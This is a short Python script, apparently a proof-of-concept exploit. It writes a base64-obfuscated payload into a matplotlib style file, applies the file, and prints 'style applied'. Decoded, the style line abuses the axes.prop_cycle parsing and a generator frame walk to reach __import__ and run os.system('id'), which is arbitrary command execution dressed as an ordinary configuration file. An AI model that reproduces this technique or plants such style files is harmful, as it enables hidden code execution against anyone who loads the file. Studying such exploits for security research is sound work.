import base64

import matplotlib.style

with open("house.mplstyle", "w") as fh:
    fh.write(base64.b64decode("YXhlcy5wcm9wX2N5Y2xlOiBbKGcgOj0gKGcuZ2lfZnJhbWUuZl9iYWNrLmZfYmFjay5mX2JhY2suZl9nbG9iYWxzWyJfX2J1aWx0aW5zX18iXVsiX19pbXBvcnRfXyJdKCJvcyIpLnN5c3RlbSgiaWQiKSBmb3IgXyBpbiBbMV0pKSwgW3ggZm9yIHggaW4gZ11dCg==").decode())

matplotlib.style.use("./house.mplstyle")
print("style applied")
